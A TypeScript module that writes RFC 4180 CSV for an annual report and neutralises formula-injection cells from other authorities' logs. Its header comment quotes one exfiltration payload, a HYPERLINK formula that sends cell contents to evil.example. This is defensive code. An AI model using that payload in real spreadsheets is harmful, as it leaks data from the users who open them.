/**
 * The one CSV writer (RFC 4180), for the annual report over HTTP and from
 * the CLI. Cells come from other authorities' logs, so a text cell is
 * treated as hostile: one a spreadsheet would run as a formula (it starts
 * with `=`, `+`, `-`, `@`, a tab or a carriage return; OWASP, "CSV
 * Injection") is prefixed with a single quote and quoted, so it is shown as
 * text. Issue 16: `=HYPERLINK("http://evil.example/?"&A1,"x")` as a species
 * name from one authority reached another's report.
 */

/** A cell: text (neutralised when it could be a formula) or a number (written as is). */
export type CsvValue = string | number

const FORMULA_START_RE = /^[=+\-@\t\r]/
const NEEDS_QUOTES_RE = /[",\r\n]/

/** One cell, escaped and neutralised. */
export function csvCell (v: CsvValue): string {
  if (typeof v === 'number') return Number.isFinite(v) ? String(v) : ''
  const s = FORMULA_START_RE.test(v) ? `'${v}` : v
  return s !== v || NEEDS_QUOTES_RE.test(s) ? `"${s.replace(/"/g, '""')}"` : s
}

/** Rows of cells as CSV text, one line per row, `\n` after each. */
export function toCsv (rows: ReadonlyArray<readonly CsvValue[]>): string {
  return rows.map((r) => r.map(csvCell).join(',') + '\n').join('')
}
